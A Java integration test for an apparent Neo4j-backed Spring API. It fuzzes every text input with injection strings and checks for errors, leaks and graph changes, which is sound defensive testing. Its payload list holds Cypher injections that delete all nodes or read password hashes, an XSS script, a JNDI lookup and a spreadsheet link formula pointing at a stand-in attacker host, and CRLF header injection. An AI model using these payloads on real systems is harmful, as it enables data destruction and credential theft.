package uk.nexus.security;

import static org.assertj.core.api.Assertions.assertThat;

import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.time.ZoneOffset;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.springframework.http.HttpMethod;
import org.springframework.http.MediaType;
import org.springframework.mock.web.MockHttpServletResponse;
import org.springframework.test.web.servlet.request.MockHttpServletRequestBuilder;
import org.springframework.test.web.servlet.request.MockMvcRequestBuilders;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;
import tools.jackson.databind.node.ObjectNode;
import uk.nexus.GraphIT;
import uk.nexus.audit.AccessLog;

/**
 * Feeds injection strings through every text input of the API: every string path and query parameter
 * the OpenAPI document declares, every string field of a request body, and the purpose header. The
 * endpoints and a valid request for each come from the authorisation matrix of docs/security.md (each
 * request is sent as a role the matrix allows); the OpenAPI document says which inputs are text.
 *
 * <p>Each answer must be an answer, not a failure: below 500, a 4xx as problem details without a stack
 * trace or driver message, and the graph unchanged unless the request was a write that succeeded (the
 * value is then stored as data, which the next request starts from a clean copy of).
 */
class InjectionIT extends GraphIT {

    private static final JsonMapper JSON = JsonMapper.builder().build();

    /** Cypher, JSON, markup, log-format, spreadsheet and control-character attacks, and a huge value. */
    static final List<String> PAYLOADS = List.of(
            "' OR 1=1 WITH 1 AS x MATCH (n) DETACH DELETE n //",
            "\"}) MATCH (n) DETACH DELETE n RETURN 1 AS x //",
            "T1' }) RETURN 1 UNION MATCH (u:User) RETURN u.passwordHash AS x //",
            "`) DETACH DELETE n //",
            "<script>alert(1)</script>${jndi:ldap://attacker.invalid/a}%s%n",
            "=HYPERLINK(\"http://attacker.invalid\")\u202e\u0000\r\nX-Injected: 1",
            "x".repeat(20_000));

    private static final List<String> LEAKS =
            List.of("Exception", "\tat ", "org.neo4j", "Neo.ClientError", "passwordHash", "SyntaxError");

    record Probe(String what, MockHttpServletRequestBuilder request, boolean write, String payload) {}

    @Test
    void injection_strings_in_every_text_input_are_answered_without_failure_leak_or_damage() throws Exception {
        wipe();
        load("tiny");
        JsonNode api = JSON.readTree(mvc.perform(MockMvcRequestBuilders.get("/api/openapi"))
                .andReturn()
                .getResponse()
                .getContentAsString());
        List<Probe> probes = new ArrayList<>();
        int endpoints = 0;
        for (AuthorisationMatrixIT.Row row : AuthorisationMatrixIT.table()) {
            String[] endpoint = row.endpoint().split(" ", 2);
            JsonNode operation = api.path("paths").path(endpoint[1]).path(endpoint[0].toLowerCase());
            Role role = allowed(row);
            if (operation.isMissingNode() || role == null) {
                continue;
            }
            endpoints++;
            for (String payload : PAYLOADS) {
                probes.addAll(probes(row, operation, role, payload));
            }
        }
        for (String payload : PAYLOADS) {
            probes.add(new Probe(
                    "purpose header " + abbreviate(payload),
                    MockMvcRequestBuilders.get("/api/subjects/T1")
                            .header(AccessLog.PURPOSE_HEADER, payload)
                            .with(withoutPurpose(Role.ANALYST)),
                    false,
                    payload));
        }
        assertThat(endpoints)
                .as("endpoints of the matrix found in the OpenAPI document")
                .isGreaterThan(30);

        List<String> failures = new ArrayList<>();
        restore();
        String before = fingerprint();
        for (Probe probe : probes) {
            MockHttpServletResponse response =
                    mvc.perform(probe.request()).andReturn().getResponse();
            int status = response.getStatus();
            String body = response.getContentAsString(StandardCharsets.UTF_8);
            if (status >= 500) {
                failures.add(probe.what() + ": " + status + " " + abbreviate(body));
            }
            if (status >= 400 && !body.contains("\"type\"")) {
                failures.add(probe.what() + ": " + status + " is not problem details: " + abbreviate(body));
            }
            String answer = withoutEcho(body, probe.payload());
            LEAKS.stream()
                    .filter(answer::contains)
                    .forEach(leak -> failures.add(probe.what() + ": the answer shows \"" + leak + "\""));
            if (response.getHeader("X-Injected") != null) {
                failures.add(probe.what() + ": a header was injected");
            }
            if (probe.write() && status < 400) {
                restore();
            } else if (!fingerprint().equals(before)) {
                failures.add(probe.what() + ": the graph changed (" + status + ")");
                restore();
            }
        }
        assertThat(probes).hasSizeGreaterThan(300);
        assertThat(failures).isEmpty();
    }

    /**
     * Back to the tiny force after a write: the bundle again, and the reference table of originators as
     * it was (the wipe keeps reference data, so an originator a probe added is removed by hand).
     */
    private void restore() {
        wipe();
        load("tiny");
        run("MATCH (o:ReferralOriginator {id: 'OP_HL'}) DETACH DELETE o");
    }

    /** The first role the matrix allows, if any. */
    private static Role allowed(AuthorisationMatrixIT.Row row) {
        return row.access().entrySet().stream()
                .filter(e -> e.getValue() && !e.getKey().equals("signed out"))
                .map(e -> Role.valueOf(e.getKey()))
                .findFirst()
                .orElse(null);
    }

    /** One request per text input of the operation, with {@code payload} in that input. */
    private List<Probe> probes(AuthorisationMatrixIT.Row row, JsonNode operation, Role role, String payload) {
        String[] example = row.example().split(" ", 3);
        HttpMethod method = HttpMethod.valueOf(example[0]);
        String template = row.endpoint().split(" ", 2)[1];
        String exampleBody = example.length == 3 ? example[2].replace("{NEXT_YEAR}", nextYear()) : null;
        boolean write = method != HttpMethod.GET;
        List<Probe> probes = new ArrayList<>();
        for (JsonNode parameter : operation.path("parameters")) {
            if (!parameter.path("schema").path("type").asString("").equals("string")) {
                continue;
            }
            String name = parameter.path("name").asString();
            String uri = switch (parameter.path("in").asString()) {
                case "path" -> withPathParameter(template, example[1], name, payload);
                case "query" -> withQueryParameter(example[1], name, payload);
                default -> null;
            };
            if (uri != null) {
                probes.add(new Probe(
                        row.endpoint() + " " + name + "=" + abbreviate(payload),
                        request(method, uri, exampleBody, role),
                        write,
                        payload));
            }
        }
        if (exampleBody != null) {
            JsonNode body = JSON.readTree(exampleBody);
            for (Map.Entry<String, JsonNode> field : body.properties()) {
                JsonNode value = field.getValue();
                if (!value.isString() && !value.isArray()) {
                    continue;
                }
                ObjectNode changed = ((ObjectNode) body).deepCopy();
                if (value.isArray()) {
                    changed.putArray(field.getKey()).add(payload);
                } else {
                    changed.put(field.getKey(), payload);
                }
                probes.add(new Probe(
                        row.endpoint() + " body." + field.getKey() + "=" + abbreviate(payload),
                        request(method, example[1], JSON.writeValueAsString(changed), role),
                        write,
                        payload));
            }
        }
        return probes;
    }

    private static MockHttpServletRequestBuilder request(HttpMethod method, String uri, String body, Role role) {
        MockHttpServletRequestBuilder request =
                MockMvcRequestBuilders.request(method, java.net.URI.create(uri)).with(as(role));
        if (body != null) {
            request = request.contentType(MediaType.APPLICATION_JSON).content(body);
        }
        return request;
    }

    /** The example's URI with {@code name} set to {@code payload} (replacing any value it had), encoded. */
    private static String withQueryParameter(String exampleUri, String name, String payload) {
        String[] parts = exampleUri.split("\\?", 2);
        List<String> query = new ArrayList<>();
        if (parts.length == 2) {
            for (String pair : parts[1].split("&")) {
                if (!pair.startsWith(name + "=")) {
                    query.add(pair);
                }
            }
        }
        query.add(name + "=" + encode(payload));
        return parts[0] + "?" + String.join("&", query);
    }

    private static String encode(String value) {
        return URLEncoder.encode(value, StandardCharsets.UTF_8).replace("+", "%20");
    }

    /** The example's path with the segment at {@code name}'s place in the template replaced, encoded. */
    private static String withPathParameter(String template, String exampleUri, String name, String payload) {
        String[] parts = exampleUri.split("\\?", 2);
        String[] segments = parts[0].split("/", -1);
        String[] names = template.split("/", -1);
        for (int i = 0; i < names.length && i < segments.length; i++) {
            if (names[i].equals("{" + name + "}")) {
                segments[i] = encode(payload);
            }
        }
        return String.join("/", segments) + (parts.length == 2 ? "?" + parts[1] : "");
    }

    /** What must not change: every node and relationship but the access log's, with their properties. */
    private String fingerprint() {
        Map<String, Object> params = new LinkedHashMap<>();
        return String.valueOf(count("MATCH (n) WHERE NOT n:AuditEntry AND NOT n:AuditHead RETURN count(n)", params))
                + "/" + count("MATCH ()-[r]->() RETURN count(r)", params)
                + "/"
                + count(
                        "MATCH (n) WHERE NOT n:AuditEntry AND NOT n:AuditHead"
                                + " RETURN sum(size(keys(n))) + sum(size(labels(n)))",
                        params);
    }

    /**
     * The answer without its quotations of the payload: an error may quote the value it refuses, whole
     * or abbreviated, as JSON text.
     */
    private static String withoutEcho(String body, String payload) {
        String answer = body;
        answer = answer.replace(encode(payload), "");
        for (String form : List.of(payload, payload.replaceAll("\\p{Cntrl}", "?"))) {
            String quoted = JSON.writeValueAsString(form);
            String inJson = quoted.substring(1, quoted.length() - 1);
            answer = answer.replace(inJson, "").replace(inJson.substring(0, Math.min(80, inJson.length())), "");
        }
        return answer;
    }

    private static String nextYear() {
        return LocalDate.now(ZoneOffset.UTC).plusYears(1).toString();
    }

    private static String abbreviate(String s) {
        String flat = s.replaceAll("\\p{Cntrl}", "?");
        return flat.length() <= 60 ? flat : flat.substring(0, 60) + "…(" + s.length() + " chars)";
    }
}
